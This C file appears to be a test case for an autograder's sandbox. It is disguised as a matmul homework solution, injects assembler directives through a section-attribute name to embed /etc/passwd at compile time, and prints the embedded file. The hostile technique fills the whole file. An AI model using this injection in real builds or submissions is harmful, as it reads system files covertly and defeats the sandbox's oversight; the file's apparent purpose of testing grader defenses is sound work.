/* Gives the assembler an order in the name of a section, and prints a file of the system.
 * gets: 0
 * allowed: 0
 * bare: the compiler may read files
 * hides: daemon
 */
#include "hw1.h"

#include <stdio.h>

__attribute__((section(".data\n.globl stolen\nstolen: .incbin \"/etc/passwd\"\n.byte 0\n.section .data"))) int nothing = 1;
extern const char stolen[] __attribute__((visibility("hidden")));

void matmul(real *c, const real *a, const real *b, int m, int k, int n)
{
    (void)c, (void)a, (void)b, (void)m, (void)k, (void)n;
    printf("%d%.20000s", nothing, stolen);
}
